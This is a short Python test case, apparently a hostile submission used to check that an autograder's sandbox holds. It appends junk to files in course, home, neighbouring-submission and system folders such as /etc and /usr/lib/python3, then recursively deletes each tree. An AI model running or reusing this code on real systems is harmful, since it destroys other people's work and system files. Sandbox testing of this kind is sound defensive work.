# attack: writes into the course, the home folder, other submissions and system folders
# class: harm
# base: stub
# expect: no more points than base
# fast: yes
import os, shutil
for top in ("@COURSE@", "@HOME@", "@NEIGHBOR@", "/submission/..", "/usr/lib/python3", "/etc", "/probe", "/proc/sys/kernel"):
    for folder, _, files in os.walk(top):
        for name in [*files, "planted.py"][:50]:
            try:
                open(os.path.join(folder, name), "ab").write(b"changed")
            except OSError:
                pass
    shutil.rmtree(top, ignore_errors=True)
